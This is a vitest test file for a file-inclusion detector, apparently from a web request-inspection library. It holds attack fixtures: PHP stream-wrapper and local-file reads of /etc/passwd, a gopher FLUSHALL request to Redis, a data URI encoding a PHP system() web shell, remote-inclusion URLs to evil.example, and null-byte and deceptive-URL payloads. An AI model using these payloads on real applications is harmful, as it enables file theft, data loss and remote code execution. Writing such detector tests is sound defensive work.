import { describe, expect, it } from 'vitest';
import { detectFileInclusion } from '../../src/detect/inclusion/index.ts';
import { checkAttacks, checkBenign, checkRobust } from './fixture-check.ts';

describe('file inclusion detector', () => {
  checkAttacks(detectFileInclusion, 'file_inclusion', [
    { value: 'php://filter/convert.base64-encode/resource=index.php', rule: 'inclusion.stream_wrapper' },
    { value: 'PHP://input' },
    { value: 'php://fd/3' },
    { value: 'expect://id' },
    { value: 'zip://uploads/a.zip#shell.php' },
    { value: 'phar://uploads/avatar.jpg/x.php' },
    { value: 'compress.zlib://php://input' },
    { value: 'file:///etc/passwd' },
    { value: 'netdoc:/etc/passwd' },
    { value: 'gopher://127.0.0.1:6379/_FLUSHALL' },
    { value: 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==', rule: 'inclusion.data_uri' },
    { value: 'data:text/plain,<?php phpinfo(); ?>' },
    { value: 'http://evil.example/shell.txt?', rule: 'inclusion.remote_url' },
    { value: 'https://evil.example/c99.txt%3f' },
    { value: '../../etc/passwd\u0000.jpg', rule: 'inclusion.null_byte' },
    { value: '../../etc/passwd%00' },
    { value: 'shell.php\u0000.png' },
    { value: 'http://66.240.183.75/crash.php', rule: 'inclusion.remote_url' },
    { value: 'https://[2001:41d0:701:1100::29c8]/gecko.php' },
    { value: 'url:file://etc/services' },
    { value: 'local_file://something' },
    { value: 'http://trusted.example%2f@evil.example/', rule: 'inclusion.deceptive_url' },
    { value: 'http://trusted.example%5c:x@evil.example/' },
  ]);
  checkBenign(detectFileInclusion, [
    { value: 'data:image/png;base64,iVBORw0KGgo=' },
    // headers are not percent-decoded nor included: `%00` there is three characters
    { value: 'example.com%00', location: 'header' },
    { value: 'https://user@mail.example/inbox' },
    { value: 'https://shop.example/search?q=a%2Fb&mail=x@y.example' },
    { value: 'https://example.com/page' },
    { value: 'see https://example.com/docs?' , location: 'body' },
    { value: 'time: 10:30' },
    { value: 'mailto:sam@example.com' },
    { value: 'https://example.com/page.php' },
    { value: 'http://cafe:8080/index.php' },
  ]);
  it('weighs a URL in an include-like parameter by its name', () => {
    expect(detectFileInclusion('http://evil.example/shell.txt', 'query', 'page')?.severity).toBe(2);
    expect(detectFileInclusion('https://partner.example/', 'query', 'include')?.severity).toBe(1);
    expect(detectFileInclusion('https://partner.example/', 'query', 'q')).toBeNull();
    expect(detectFileInclusion('https://foo.bar/x.txt', 'query', '_CONF[path]')?.severity).toBe(2);
    // A base path the application prepends to its includes: any URL there is inclusion.
    expect(detectFileInclusion('https://foo.bar', 'query', 'mosConfig_absolute_path')?.severity).toBe(2);
    expect(detectFileInclusion('https://foo.bar', 'query', '_CONF[path]')?.severity).toBe(2);
    expect(detectFileInclusion('http://203.0.113.7/', 'body', 'phpbb_root_path')?.severity).toBe(2);
    expect(detectFileInclusion('https://blog.example/post', 'body', 'url')).toBeNull();
  });
  checkRobust(detectFileInclusion);
});
